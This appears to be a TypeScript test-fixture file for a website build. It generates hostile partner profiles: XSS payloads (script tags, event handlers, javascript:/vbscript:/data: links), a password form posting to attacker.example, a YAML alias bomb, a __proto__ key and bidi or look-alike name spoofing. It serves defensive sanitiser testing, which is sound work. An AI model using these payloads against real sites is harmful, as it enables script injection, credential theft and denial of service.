/**
 * Hostile partner files: what a partner (or a careless paste) could put in a
 * profile. Each case either must stop the build naming the file and field,
 * or must build into a page where the hostile text is inert. Payloads that
 * could run call alert() or log MARKER, and anything they could load points
 * at attacker.example, so a browser can tell whether any of it ran.
 */
import { readFileSync } from 'node:fs';

export const MARKER = 'PWNED-7f3a';
export const ATTACKER_HOST = 'attacker.example';

const valid = readFileSync('content/partners/baikal-digital.md', 'utf8');
const [, frontMatter = '', body = ''] = /^---\n([\s\S]*?)\n---\n([\s\S]*)$/.exec(valid) ?? [];

/** A valid profile with a different name, front matter lines replaced and extra body text. */
export function partner(name: string, { body: extra = '', replace = {} as Record<string, string> } = {}): string {
  let data = frontMatter.replace(/^name: .*$/m, `name: ${JSON.stringify(name)}`);
  for (const [key, line] of Object.entries(replace)) {
    // A field's value may go on over indented lines (a folded summary, a list): replace all of it.
    data = new RegExp(`^${key}:`, 'm').test(data)
      ? data.replace(new RegExp(`^${key}:.*(?:\\n[ \\t]+.*)*`, 'm'), line)
      : `${data}\n${line}`;
  }
  return `---\n${data}\n---\n${body}\n${extra}\n`;
}

const run = `alert('${MARKER}')`;
const log = `console.log('${MARKER}')`;
const attacker = `https://${ATTACKER_HOST}`;

export interface InertCase {
  slug: string;
  what: string;
  markdown: string;
}

/** Cases that build, and whose pages must show the attempt as text or drop it. */
export const inertCases: InertCase[] = [
  {
    slug: 'hostile-script-tags',
    what: '<script> elements, inline and external',
    markdown: partner('Hostile Script Tags', {
      body: `<script>${run}</script>\n\n<SCRIPT SRC=${attacker}/x.js></SCRIPT>\n\nText <script>${log}</script> inline.`,
    }),
  },
  {
    slug: 'hostile-event-handlers',
    what: 'event-handler attributes',
    markdown: partner('Hostile Event Handlers', {
      body: `<img src=x onerror="${run}">\n\n<body onload="${run}">\n\n<a href="#" onclick="${run}">click</a>\n\n<details open ontoggle="${run}">x</details>`,
    }),
  },
  {
    slug: 'hostile-link-schemes',
    what: 'javascript:, vbscript:, data: and protocol-relative links and images',
    markdown: partner('Hostile Link Schemes', {
      body: [
        `[one](javascript:${run})`,
        `[two](JaVaScRiPt:${run})`,
        `[three](java&#09;script:${run})`,
        `[four](vbscript:msgbox("${MARKER}"))`,
        `[five](data:text/html;base64,PHNjcmlwdD5hbGVydCgnUFdORUQtN2YzYScpPC9zY3JpcHQ+)`,
        `<javascript:${run}>`,
        `[six][ref]\n\n[ref]: javascript:${run}`,
        `![seven](javascript:${run})`,
        `[eight](//${ATTACKER_HOST}/phish)`,
        `![nine](${attacker}/pixel.png)`,
        `![ten](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
      ].join('\n\n'),
    }),
  },
  {
    slug: 'hostile-embedded-frames',
    what: '<iframe>, <object>, <embed> and <base>',
    markdown: partner('Hostile Embedded Frames', {
      body: `<iframe src="${attacker}/frame"></iframe>\n\n<object data="${attacker}/x.swf"></object>\n\n<embed src="${attacker}/x.swf">\n\n<base href="${attacker}/">\n\n<meta http-equiv="refresh" content="0;url=${attacker}">`,
    }),
  },
  {
    slug: 'hostile-svg',
    what: 'SVG with script',
    markdown: partner('Hostile SVG', {
      body: `<svg onload="${run}"><script>${run}</script><a href="javascript:${run}"><text>x</text></a></svg>`,
    }),
  },
  {
    slug: 'hostile-css',
    what: 'CSS expression() and url(javascript:)',
    markdown: partner('Hostile CSS', {
      body: `<div style="background:url(javascript:${run})">x</div>\n\n<style>body{background:expression(${run});background-image:url(${attacker}/bg.png)}</style>\n\n<link rel="stylesheet" href="${attacker}/x.css">`,
    }),
  },
  {
    slug: 'hostile-comments',
    what: 'HTML comments that break out',
    markdown: partner('Hostile Comments', {
      body: `<!-- --><script>${run}</script> -->\n\n<!--[if gte IE 4]><script>${run}</script><![endif]-->\n\n--><img src=x onerror=${run}>`,
    }),
  },
  {
    slug: 'hostile-forms',
    what: 'forms posting elsewhere',
    markdown: partner('Hostile Forms', {
      body: `<form action="${attacker}/steal"><input name="password"><button>Sign in</button></form>`,
    }),
  },
  {
    slug: 'hostile-bidi-body',
    what: 'text-direction overrides in the body text',
    markdown: partner('Hostile Bidi Body', { body: 'Download our price list: \u202Efdp.exe (it reads as exe.pdf).' }),
  },
  {
    slug: 'hostile-control-image',
    what: 'an image address behind a control character',
    markdown: partner('Hostile Control Image', {
      body: `![pixel](&#8;//${ATTACKER_HOST}/p.png)\n\n![local](photo-that-is-not-there.png)`,
    }),
  },
  {
    slug: 'hostile-upload-link',
    what: 'a link to an uploaded file, opened directly',
    markdown: partner('Hostile Upload Link', { body: 'Our [logo](/uploads/hostile-logo.svg) in full size.' }),
  },
];

/** Cases that build but must not make a profile wider than a phone screen. */
export const wideCases: InertCase[] = [
  {
    slug: 'hostile-long-word',
    what: 'an 18,000-character word',
    markdown: partner('Hostile Long Word', { body: 'W'.repeat(18_000) }),
  },
  {
    slug: 'hostile-brackets',
    what: 'thousands of nested brackets',
    markdown: partner('Hostile Brackets', { body: `${'['.repeat(4000)}x${']'.repeat(4000)}` }),
  },
  {
    slug: 'hostile-deep-list',
    what: 'a list nested 1,500 levels deep',
    markdown: partner('Hostile Deep List', { body: `${'- '.repeat(1500)}deep` }),
  },
  {
    slug: 'hostile-deep-quote',
    what: 'a quote nested 1,500 levels deep',
    markdown: partner('Hostile Deep Quote', { body: `${'>'.repeat(1500)} deep` }),
  },
  {
    slug: 'hostile-zalgo-body',
    what: 'Zalgo text in the body',
    markdown: partner('Hostile Zalgo Body', { body: `Z${'\u0336\u0337\u0338\u0335\u0334'.repeat(400)}algo` }),
  },
  {
    slug: 'hostile-long-case-study',
    what: 'long unbroken words in a case study and the summary',
    markdown: partner('Hostile Long Case Study', {
      replace: {
        summary: `summary: ${'S'.repeat(200)}`,
        caseStudies: `caseStudies:\n  - title: ${'T'.repeat(120)}\n    summary: ${'C'.repeat(400)}`,
      },
    }),
  },
];

export interface FailingCase {
  slug: string;
  what: string;
  markdown: string;
  /** More files in the same folder, by name without extension. */
  files?: Record<string, string>;
  field: string;
  message: string;
}

/** Alias upon alias: a billion laughs if anything expanded it. */
const aliasBomb = [
  'bomb0: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  'bomb1: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'bomb2: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'bomb3: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'bomb4: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'bomb5: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'bomb6: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
  'bomb7: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
  'bomb8: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]',
].join('\n');

/** Cases the build must refuse, naming the file and the field. */
export const failingCases: FailingCase[] = [
  {
    slug: 'hostile-long-name',
    what: 'a 10,000-character name',
    markdown: partner('Long'.repeat(2500)),
    field: 'name',
    message: 'at most 120 characters',
  },
  {
    slug: 'hostile-bidi-name',
    what: 'a text-direction override in the name',
    markdown: partner('Acme Cloud \u202Eexe.tnemyap'),
    field: 'name',
    message: 'text-direction marks',
  },
  {
    slug: 'hostile-script-name',
    what: 'a </script> in the name, which ends up in inline JSON-LD',
    markdown: partner(`Acme</script><script>${run}</script>`),
    field: 'name',
    message: 'Use plain text',
  },
  {
    slug: 'hostile-script-summary',
    what: 'a </script> in the summary',
    markdown: partner('Hostile Summary', {
      replace: { summary: `summary: "Mail for you </script><script>${run}</script>"` },
    }),
    field: 'summary',
    message: 'Use plain text',
  },
  {
    slug: 'hostile-vbscript-website',
    what: 'a vbscript: website',
    markdown: partner('Hostile VBScript Website', { replace: { website: `website: vbscript:msgbox("${MARKER}")` } }),
    field: 'website',
    message: 'http:// or https://',
  },
  {
    slug: 'hostile-data-website',
    what: 'a data: website',
    markdown: partner('Hostile Data Website', {
      replace: { website: 'website: "data:text/html,<script>alert(1)</script>"' },
    }),
    field: 'website',
    message: 'http:// or https://',
  },
  {
    slug: 'hostile-case-study-link',
    what: 'a javascript: case study link',
    markdown: partner('Hostile Case Study Link', {
      replace: {
        caseStudies: `caseStudies:\n  - title: Our best work\n    summary: Click the link to see it.\n    url: "javascript:${run}"`,
      },
    }),
    field: 'caseStudies.0.url',
    message: 'http:// or https://',
  },
  {
    slug: 'hostile-alias-bomb',
    what: 'a YAML alias bomb in the front matter',
    markdown: partner('Hostile Alias Bomb', { replace: { website: `${aliasBomb}\nwebsite: *i` } }),
    field: 'website',
    message: 'string',
  },
  {
    slug: 'hostile-lookalike-name',
    what: 'a look-alike name with a Cyrillic В among Latin letters',
    markdown: partner('Вaikal Digital'),
    field: 'name',
    message: 'one alphabet',
  },
  {
    slug: 'hostile-invisible-name',
    what: 'a name made only of zero-width characters and direction marks',
    markdown: partner('\u200b\u200c\u200d\u200f\u2060'),
    field: 'name',
    message: 'visible text',
  },
  {
    slug: 'hostile-rlm-summary',
    what: 'a right-to-left mark in the summary',
    markdown: partner('Hostile RLM Summary', { replace: { summary: 'summary: "Mail for you\u200f, at home"' } }),
    field: 'summary',
    message: 'text-direction marks',
  },
  {
    slug: 'hostile-boolean-date',
    what: 'a verification date of true',
    markdown: partner('Hostile Boolean Date', { replace: { verified: 'verified: true' } }),
    field: 'verified',
    message: 'calendar date',
  },
  {
    slug: 'hostile-rolled-date',
    what: 'a verification date of 30 February, which YAML rolls over to 1 March',
    markdown: partner('Hostile Rolled Date', { replace: { verified: 'verified: 2024-02-30' } }),
    field: 'verified',
    message: 'not a calendar date',
  },
  {
    slug: 'hostile-proto-key',
    what: 'a __proto__ key in the front matter',
    markdown: partner('Hostile Proto Key', { replace: { ['__proto__']: '__proto__:\n  featured: true' } }),
    field: '__proto__',
    message: 'cannot be a field name',
  },
  {
    slug: 'hostile-twin',
    what: 'a second file whose name reads as an existing id (Hostile-Twin.md beside hostile-twin.md)',
    markdown: partner('Hostile Twin'),
    files: { 'Hostile-Twin': partner('Impostor Twin') },
    field: 'hostile-twin.md',
    message: 'lowercase letters, digits and hyphens',
  },
  {
    slug: 'hostile-huge-body',
    what: 'a 5 MB body',
    markdown: partner('Hostile Huge Body', { body: `${'All work and no play. '.repeat(238_310)}\n` }),
    field: 'body',
    message: 'at most 20,000 characters',
  },
];
